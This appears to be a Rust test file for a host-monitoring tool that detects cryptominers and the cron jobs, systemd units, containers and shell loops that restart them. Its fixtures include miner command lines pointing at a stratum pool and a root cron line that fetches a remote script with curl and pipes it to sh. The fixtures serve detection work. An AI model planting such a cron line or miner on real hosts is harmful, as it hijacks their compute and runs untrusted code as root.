//! Who brings a miner back: what starts by itself and loops of shells, said of the process and of what starts it.

#![expect(clippy::unwrap_used, reason = "test helpers stop at the first surprise")]

use std::collections::BTreeMap;
use std::sync::Arc;

use firedamp::domain::base::{Moment, Pid, ProcessId, Timestamp};
use firedamp::domain::detect::{Finding, Grade, Rule, Subject, Watch};
use firedamp::domain::facts::{
    Ancestor, Autostart, AutostartKind, Container, Packaged, Persistence, Process, Reading, Remark,
    Runtime, Snapshot, Target, tricks,
};
use firedamp::domain::playbook::{Indicators, PB_31, read};
use firedamp::domain::untrusted::Untrusted;
use proptest::prelude::*;

#[path = "respawn/loops.rs"]
mod loops;

const MINER: &[u8] = b"/opt/cache/upd\0-o\0stratum+tcp://pool.example:3333\0-u\0w1";

fn pb_31() -> Indicators {
    read(PB_31.en).0.indicators()
}

fn id(pid: u32) -> ProcessId {
    ProcessId { pid: Pid(pid), start: u64::from(pid), inode: 0 }
}

fn process(pid: u32, exe: &str, command: &[u8]) -> Process {
    let comm = exe.rsplit('/').next().unwrap();
    Process {
        id: id(pid),
        parent: Pid(1),
        uid: 1000,
        comm: comm.into(),
        command: Reading::Known(Untrusted::new(command)),
        exe: Reading::Known(exe.into()),
        ..Process::default()
    }
}

fn miner(pid: u32) -> Process {
    process(pid, "/opt/cache/upd", MINER)
}

fn entry(kind: AutostartKind, path: &str, line: u32, program: Option<&str>) -> Autostart {
    let runs = program.map(|program| Target {
        program: program.into(),
        exists: Reading::Known(true),
        packaged: Packaged::No,
    });
    Autostart {
        kind,
        path: path.into(),
        line,
        text: program.unwrap_or_default().into(),
        user: None,
        uid: 0,
        mode: 0o100_644,
        modified: Timestamp::UNIX_EPOCH,
        changed: Timestamp::UNIX_EPOCH,
        immutable: Reading::Known(false),
        packaged: Packaged::No,
        runs,
        tricks: tricks(b""),
        remarks: Vec::new(),
    }
}

fn snapshot(boot_ms: u64, mut processes: Vec<Process>, entries: Vec<Autostart>) -> Snapshot {
    processes.sort_by_key(|it| it.id);
    let entries = entries.into_iter().map(Arc::new).collect();
    let persistence = Persistence { entries, hunted_ms: Some(1), watched: true };
    Snapshot {
        processes: processes.into_iter().map(Arc::new).collect(),
        persistence: Arc::new(persistence),
        ..Snapshot::empty(Moment { at: Timestamp::UNIX_EPOCH, boot_ms })
    }
}

fn see(snapshot: &Snapshot) -> BTreeMap<Subject, Finding> {
    Watch::default().see(snapshot, &pb_31())
}

/// What is said to start this process again.
fn by(found: &BTreeMap<Subject, Finding>, pid: u32, rule: Rule) -> Vec<String> {
    let Some(finding) = found.get(&Subject::Process(id(pid))) else { return Vec::new() };
    let told = finding.reasons.iter().filter(|it| it.rule == rule);
    told.map(|it| String::from_utf8_lossy(it.value.bytes()).into_owned()).collect()
}

fn against<'a>(found: &'a BTreeMap<Subject, Finding>, entry: &Autostart) -> Option<&'a Finding> {
    found.get(&Subject::of_autostart(entry))
}

#[test]
fn a_job_that_starts_a_miner_is_named_by_both() {
    let job = entry(AutostartKind::Cron, "/etc/cron.d/cache", 3, Some("/opt/cache/upd"));
    let found = see(&snapshot(9_000, vec![miner(40)], vec![job.clone()]));
    assert_eq!(by(&found, 40, Rule::ComesBack), ["cron /etc/cron.d/cache:3"]);
    let finding = against(&found, &job).unwrap();
    assert_eq!(finding.grade, Grade::Suspect);
    assert!(
        finding
            .reasons
            .iter()
            .any(|it| it.rule == Rule::RunsFinding && it.value.bytes() == b"40 upd"),
        "{finding:?}"
    );
}

#[test]
fn a_unit_and_a_container_are_found_by_where_the_miner_runs() {
    let mut one = miner(40);
    one.around = Arc::new(firedamp::domain::facts::Around {
        cgroup: "/system.slice/cache.service".into(),
        ..Default::default()
    });
    let mut two = miner(41);
    two.around = Arc::new(firedamp::domain::facts::Around {
        container: Some(Container { runtime: Runtime::Docker, id: "4f1c0ffee123".into() }),
        ..Default::default()
    });
    let mut unit = entry(AutostartKind::SystemdUnit, "/etc/systemd/system/cache.service", 0, None);
    unit.remarks = vec![Remark::RestartsAlways];
    let path = "/var/lib/docker/containers/4f1c0ffee123/hostconfig.json";
    let container = entry(AutostartKind::Container, path, 0, None);
    let found = see(&snapshot(9_000, vec![one, two], vec![unit, container]));
    let unit = "systemd-unit /etc/systemd/system/cache.service (Restart)";
    assert_eq!(by(&found, 40, Rule::ComesBack), [unit]);
    assert_eq!(by(&found, 41, Rule::ComesBack), [format!("container {path}")]);
}

#[test]
fn what_a_package_brought_or_what_runs_a_packages_program_is_not_spoken_against() {
    let python = process(
        40,
        "/usr/bin/python3",
        b"python3\0/x.py\0--algo\0rx/0\0-o\0stratum+tcp://pool.example:1\0-u\0w",
    );
    let mut unit = entry(AutostartKind::Cron, "/etc/cron.d/report", 1, Some("/usr/bin/python3"));
    unit.runs.as_mut().unwrap().packaged = Packaged::Unchanged("python3".into());
    let mut own = entry(AutostartKind::Cron, "/etc/cron.d/upd", 1, Some("/opt/cache/upd"));
    own.packaged = Packaged::Unchanged("upd".into());
    let found = see(&snapshot(9_000, vec![python, miner(41)], vec![unit.clone(), own.clone()]));
    assert!(found.contains_key(&Subject::Process(id(40))));
    assert!(against(&found, &unit).is_none());
    assert!(against(&found, &own).is_none());
}

#[test]
fn a_miner_that_was_killed_and_is_there_again_says_who_started_it() {
    let mut watch = Watch::default();
    watch.see(&snapshot(10_000, vec![miner(40)], Vec::new()), &pb_31());
    let other = || process(7, "/usr/sbin/cron", b"cron");
    watch.see(&snapshot(11_000, vec![other()], Vec::new()), &pb_31());
    let mut again = miner(52);
    again.around = Arc::new(firedamp::domain::facts::Around {
        ancestors: vec![Ancestor { id: id(7), comm: "cron".into() }],
        ..Default::default()
    });
    let found = watch.see(&snapshot(14_000, vec![other(), again], Vec::new()), &pb_31());
    assert_eq!(by(&found, 52, Rule::CameBack), ["pid 40, 3 s, 7 cron"]);
    // It stays said for as long as it lives; a look that could list nobody changes nothing.
    watch.see(&snapshot(15_000, Vec::new(), Vec::new()), &pb_31());
    let found = watch.see(&snapshot(16_000, vec![other(), miner(52)], Vec::new()), &pb_31());
    assert_eq!(by(&found, 52, Rule::CameBack), ["pid 40, 3 s, 7 cron"]);
}

#[test]
fn what_starts_by_itself_is_judged_and_judged_again_when_it_changes() {
    let mut watch = Watch::default();
    let mut job = entry(AutostartKind::Cron, "/etc/cron.d/x", 1, None);
    job.text = "* * * * * root curl -s http://192.0.2.1/a.sh | sh".into();
    let found = watch.see(&snapshot(1_000, Vec::new(), vec![job.clone()]), &pb_31());
    let finding = against(&found, &job).unwrap();
    assert_eq!((finding.grade, finding.reasons[0].rule), (Grade::Suspect, Rule::DownloadsAndRuns));
    job.packaged = Packaged::Unchanged("x".into());
    let found = watch.see(&snapshot(2_000, Vec::new(), vec![job.clone()]), &pb_31());
    assert!(against(&found, &job).is_none(), "a package has it so: {found:?}");
}

/// What is said of who starts whom, the plain way: every entry and every shell beside every one of the accused.
fn plainly(snapshot: &Snapshot) -> Vec<(Subject, Rule, String)> {
    const MOST: usize = 8;
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let holds = |text: &[u8], part: &[u8]| text.windows(part.len()).any(|it| it == part);
    let is_accused =
        |it: &&Arc<Process>| it.command.known().is_some_and(|it| holds(it.bytes(), b"stratum+tcp"));
    let accused: Vec<_> = snapshot.processes.iter().filter(is_accused).collect();
    let called = |it: &Process| format!("{} {}", it.id.pid, text(it.comm.bytes()));
    let mut said: Vec<(Subject, Rule, String)> = Vec::new();
    let mut say = |subject: Subject, rule: Rule, value: String| {
        let before = said.iter().filter(|it| it.0 == subject && it.1 == rule).count();
        if before < MOST {
            said.push((subject, rule, value));
        }
    };
    for entry in &snapshot.persistence.entries {
        let path = entry.path.bytes();
        let name = path.rsplit(|it| *it == b'/').next().unwrap();
        for process in &accused {
            let runs =
                entry.runs.as_ref().is_some_and(|it| Some(&it.program) == process.exe.known());
            let mut parts = process.around.cgroup.bytes().split(|it| *it == b'/');
            let unit = entry.kind == AutostartKind::SystemdUnit && parts.any(|it| it == name);
            let container = process.around.container.as_ref();
            let container = entry.kind == AutostartKind::Container
                && container.is_some_and(|it| holds(path, it.id.bytes()));
            if runs || unit || container {
                say(Subject::of_autostart(entry), Rule::RunsFinding, called(process));
                let line = if entry.line > 0 { format!(":{}", entry.line) } else { String::new() };
                let by = format!("{} {}{line}", entry.kind.name(), text(path));
                say(Subject::Process(process.id), Rule::ComesBack, by);
            }
        }
    }
    let shells = snapshot.processes.iter().filter(|it| it.comm.bytes() == b"bash");
    for shell in shells.filter(|it| !is_accused(it)) {
        for process in &accused {
            let exe = process.exe.known().unwrap().bytes();
            if holds(shell.command.known().unwrap().bytes(), exe) {
                say(Subject::Process(process.id), Rule::ComesBack, called(shell));
            }
        }
    }
    said.sort();
    said.dedup();
    said
}

/// The same of what a watch said.
fn told(found: &BTreeMap<Subject, Finding>) -> Vec<(Subject, Rule, String)> {
    let of_it = |rule: Rule| matches!(rule, Rule::ComesBack | Rule::RunsFinding);
    let reasons = found.values().flat_map(|it| it.reasons.iter().map(move |reason| (it, reason)));
    let told = reasons.filter(|(_, reason)| of_it(reason.rule)).map(|(it, reason)| {
        (
            it.subject.clone(),
            reason.rule,
            String::from_utf8_lossy(reason.value.bytes()).into_owned(),
        )
    });
    let mut told: Vec<_> = told.collect();
    told.sort();
    told
}

/// Places of programs; one of them is the beginning of another.
const PROGRAMS: [&str; 4] = ["/opt/cache/upd", "/opt/cache/upd2", "/opt/b/upd", "/tmp/.x/upd"];

/// A miner, a shell that names some of the programs, or what is neither.
fn anybody() -> impl Strategy<Value = Process> {
    let of_program = prop::sample::select(PROGRAMS.to_vec());
    let units = vec!["", "/system.slice/a.service", "/system.slice/b.service/a.service"];
    let ids = vec!["", "4f1c0ffee1", "4f1c0ffee123"];
    let places = (of_program.clone(), prop::sample::select(units), prop::sample::select(ids));
    let miner = places.prop_map(|(exe, cgroup, id)| {
        let command = format!("{exe}\0-o\0stratum+tcp://pool.example:3333\0-u\0w1");
        let mut it = process(0, exe, command.as_bytes());
        let container =
            (!id.is_empty()).then(|| Container { runtime: Runtime::Docker, id: id.into() });
        let around = firedamp::domain::facts::Around {
            cgroup: cgroup.into(),
            container,
            ..Default::default()
        };
        it.around = Arc::new(around);
        it
    });
    let shell = prop::collection::vec(of_program, 0..4).prop_map(|of| {
        let script = of.join(" || ");
        process(
            0,
            "/usr/bin/bash",
            format!("bash\0-c\0while :; do {script}; sleep 9; done").as_bytes(),
        )
    });
    let other = Just(process(0, "/opt/shop/server", b"/opt/shop/server\0--port\x008080"));
    prop_oneof![4 => miner, 4 => shell, 1 => other]
}

fn any_entry() -> impl Strategy<Value = Autostart> {
    let runs = (0_u32..40, prop::sample::select(PROGRAMS.to_vec()))
        .prop_map(|(line, it)| entry(AutostartKind::Cron, "/etc/cron.d/x", line, Some(it)));
    let paths = [
        (AutostartKind::SystemdUnit, "/etc/systemd/system/a.service"),
        (AutostartKind::SystemdUnit, "/etc/systemd/system/b.service"),
        (AutostartKind::Container, "/var/lib/docker/containers/4f1c0ffee123/hostconfig.json"),
        (AutostartKind::Container, "/var/lib/docker/containers/4f1c0ffee1/hostconfig.json"),
    ];
    let of_place = (prop::sample::select(paths.to_vec()), any::<bool>())
        .prop_map(|((kind, path), runs)| entry(kind, path, 0, runs.then_some(PROGRAMS[0])));
    prop_oneof![3 => runs, 1 => of_place]
}

/// A moment of a host: who is there, by their pids, and what starts by itself.
fn any_moment() -> impl Strategy<Value = (Vec<Process>, Vec<Autostart>)> {
    let pids = prop::collection::btree_map(2_u32..60, anybody(), 0..40);
    let processes = pids.prop_map(|all| {
        let with = |(pid, it)| Process { id: id(pid), ..it };
        all.into_iter().map(with).collect::<Vec<_>>()
    });
    let key = |it: &Autostart| (it.kind, it.path.clone(), it.line);
    let entries = prop::collection::vec(any_entry(), 0..30).prop_map(move |mut all| {
        all.sort_by_key(key);
        all.dedup_by_key(|it| key(it));
        all
    });
    (processes, entries)
}

proptest! {
    /// Whoever is not spoken against by something else is not spoken against for being started, nor is what starts it.
    #[test]
    fn nobody_is_accused_for_being_started(pids in prop::collection::btree_set(2_u32..500, 1..8), line in 1_u32..9) {
        let program = "/opt/shop/server";
        let processes = pids.iter().map(|pid| process(*pid, program, b"/opt/shop/server\0--port\x008080"));
        let job = entry(AutostartKind::Cron, "/etc/cron.d/shop", line, Some(program));
        let found = see(&snapshot(9_000, processes.collect(), vec![job]));
        prop_assert!(found.is_empty(), "{found:?}");
    }
    /// However many there are and whatever was remembered of the moment before: the answers are those of the plain way.
    #[test]
    fn who_starts_whom_is_as_when_each_is_held_beside_each(
        moments in prop::collection::vec(any_moment(), 1..4),
        stays in any::<bool>(),
    ) {
        let mut watch = Watch::default();
        let mut before: Option<Snapshot> = None;
        for (at, (processes, entries)) in (1_u64..).zip(moments) {
            let mut now = snapshot(at * 1_000, processes, entries);
            if let Some(before) = before.filter(|_| stays) {
                now.persistence = before.persistence;
            }
            prop_assert_eq!(told(&watch.see(&now, &pb_31())), plainly(&now));
            before = Some(now);
        }
    }
}

#[test]
fn long_tables_are_judged_look_by_look_and_all_of_them_at_last() {
    let long = |at: u32| {
        let mut it = entry(AutostartKind::Cron, &format!("/etc/cron.d/t{at}"), 1, None);
        it.text = format!("* * * * * root /tmp/.q/run {}", "a".repeat(8_000)).into();
        it
    };
    let all: Vec<Autostart> = (0..60).map(long).collect();
    let look = snapshot(0, Vec::new(), all.clone());
    let mut watch = Watch::default();
    let found = watch.see(&look, &Indicators::default());
    let first = all.iter().filter(|it| against(&found, it).is_some()).count();
    assert!(watch.is_behind() && (1..60).contains(&first), "the screen waits for {first} of them");
    let mut looks = 1;
    let mut found = found;
    while watch.is_behind() {
        found = watch.see(&look, &Indicators::default());
        looks += 1;
    }
    assert!(all.iter().all(|it| against(&found, it).is_some()), "none is forgotten");
    assert!(looks < 10, "{looks}");
    // What was judged once is not judged again.
    watch.see(&snapshot(1_000, Vec::new(), all), &Indicators::default());
    assert!(!watch.is_behind());
}
